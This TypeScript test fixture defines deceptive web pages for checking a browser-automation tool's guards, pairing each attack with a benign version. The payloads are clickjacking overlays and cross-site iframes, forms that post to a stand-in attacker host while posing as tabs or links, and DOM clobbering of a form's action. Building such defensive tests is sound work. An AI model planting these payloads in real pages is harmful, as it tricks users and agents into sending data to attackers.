import type { Answer, BrowserAttack } from '../browser/browser-attack.ts'
import type { Guard } from '../row.ts'
import { CARRIES_NOTHING, CLOBBERED, HIT_TEST, IN_NO_FORM, NAMED, RAISE } from './guards.ts'
import { rowOf, type Scene } from './scene.ts'

const no = (): Answer => () => 'none'

/** What a page names its fields cannot be seen from a content script's side (Xray vision). */
const UNCLOBBERED = { firefox: 'to an extension an element has the properties that the browser gave it' } as const

interface Lie {
  readonly name: string
  readonly notIn?: NonNullable<Scene['notIn']>
  readonly guard: Guard
  readonly lie: string
  readonly truth: string
  readonly plan: string
}

const EVIL_FORM = '<form method=post action="EVIL/evil">'
const CLICK = 'click button "Next"'
const NEXT = `<button id=next onclick="fetch('/GAIN')">Next</button>`
const over = (html: string) => `<div style="position: relative">${NEXT}</div>${html}`
const ALL = 'position: fixed; inset: 0; width: 100%; height: 100%; border: 0; background: white'

const HIDING = [
  'action',
  'attributes',
  'closest',
  'elements',
  'getAttribute',
  'matches',
  'method',
  'ownerDocument',
  'target'
]
  .map((name) => `<input type=hidden name=${name} value=/save>`)
  .join('')

/** What the page says of itself, and what it is; the person would say no to everything that is asked. */
const LIES: readonly Lie[] = [
  {
    name: 'a button that sends a form to another site and calls itself a tab',
    guard: RAISE,
    lie: `${EVIL_FORM}<button role=tab>Details</button></form>`,
    truth: '<button type=button role=tab>Details</button>',
    plan: 'click tab "Details"'
  },
  {
    name: 'a button that sends a form to another site and calls itself a link',
    guard: RAISE,
    lie: `${EVIL_FORM}<button role=link>Details</button></form>`,
    truth: '<a href="#details">Details</a>',
    plan: 'click link "Details"'
  },
  {
    name: 'a checkbox of its own that sends a form to another site',
    guard: RAISE,
    lie: `${EVIL_FORM}<button role=checkbox aria-checked=false>Read</button></form>`,
    truth: `<span role=checkbox tabindex=0 aria-checked=false onclick="this.ariaChecked = 'true'">Read</span>`,
    plan: 'check checkbox "Read"'
  },
  {
    name: 'a field that sends its form to another site with Enter',
    guard: RAISE,
    lie: `${EVIL_FORM}<label>Find <input name=q></label></form>`,
    truth: `<label>Find <input name=q></label>`,
    plan: 'press "Enter" in field "Find"'
  },
  {
    name: 'a button that says to a reader of the screen less than it shows',
    guard: NAMED,
    lie: `<button aria-label=Next onclick="fetch('/evil')">Delete everything</button>`,
    truth: `<button aria-label=Next onclick="fetch('/next')">›</button>`,
    plan: CLICK
  },
  {
    name: 'a link that says it opens a form and carries what it sends',
    guard: CARRIES_NOTHING,
    lie: '<a href="/reply?say=evil">Reply</a>',
    truth: '<a href="/reply">Reply</a>',
    plan: 'click link "Reply"'
  },
  {
    name: 'a link that says it opens a form and sends the one around it',
    guard: IN_NO_FORM,
    lie: `<form id=form method=post action="/evil"><a id=link href="/reply">Reply</a></form><script>link.addEventListener('click', (event) => { event.preventDefault(); form.submit() })</script>`,
    truth: '<a href="/reply">Reply</a>',
    plan: 'click link "Reply"'
  },
  {
    name: 'a form that hides its action behind a field of that name',
    guard: CLOBBERED,
    notIn: UNCLOBBERED,
    lie: `${EVIL_FORM}<input type=hidden name=action value=/save><button>Save</button></form>`,
    truth: '<form method=post action=/save><button>Save</button></form>',
    plan: 'click button "Save"'
  },
  {
    name: 'a layer over the button',
    guard: HIT_TEST,
    lie: over(`<div style="${ALL}">Nothing here</div>`),
    truth: over(''),
    plan: CLICK
  },
  {
    name: "another site's frame over the button",
    guard: HIT_TEST,
    lie: over(`<iframe src="EVIL/frame" style="${ALL}"></iframe>`),
    truth: over(`<iframe src="EVIL/frame"></iframe>`),
    plan: CLICK
  },
  {
    name: 'a dialog in the top layer over the button',
    guard: HIT_TEST,
    lie: over(
      `<dialog style="${ALL}; max-width: none; max-height: none" popover=manual>Hello</dialog><script>document.querySelector('dialog').showPopover()</script>`
    ),
    truth: over('<dialog popover=manual>Hello</dialog>'),
    plan: CLICK
  },
  {
    name: 'a layer that comes over the button as the hand comes near',
    guard: HIT_TEST,
    lie: over(
      `<div id=layer hidden style="${ALL}">Nothing here</div><script>document.querySelector('#next').addEventListener('pointermove', () => { document.querySelector('#layer').hidden = false })</script>`
    ),
    truth: over(''),
    plan: CLICK
  },
  {
    name: "another site's frame that moves over the button as the hand comes near",
    guard: HIT_TEST,
    lie: over(
      `<iframe id=frame src="EVIL/frame"></iframe><script>document.querySelector('#next').addEventListener('pointerover', () => { document.querySelector('#frame').style.cssText = '${ALL}' })</script>`
    ),
    truth: over('<iframe src="EVIL/frame"></iframe>'),
    plan: CLICK
  },
  {
    name: 'a form that hides all that is asked of it behind fields of those names',
    guard: CLOBBERED,
    notIn: UNCLOBBERED,
    lie: `${EVIL_FORM}${HIDING}<button>Save</button></form>`,
    truth: `<form method=post action=/save>${HIDING}<button>Save</button></form>`,
    plan: 'click button "Save"'
  }
]

const scene = ({ name, guard, notIn, lie, truth, plan }: Lie): Scene => ({
  name,
  ...(notIn && { notIn }),
  guards: [guard],
  pages: ({ evil }, tricked) => ({
    '/page': `<h1>Page</h1>${(tricked ? lie : truth).replaceAll('EVIL', evil).replaceAll('GAIN', tricked ? 'evil' : 'next')}`,
    '/save': '<h1>Saved</h1>',
    '/next': '',
    '/reply': '<h1>Reply</h1>',
    '/evil': '<h1>Evil</h1>'
  }),
  elsewhere: () => ({ '/evil': '<h1>Evil</h1>', '/frame': '<p>Frame</p>' }),
  plan: () => `on s { open "/page" ${plan} let t = read title }`,
  answer: no
})

export const ATTACKS: readonly BrowserAttack[] = LIES.map((lie) => rowOf(scene(lie)))
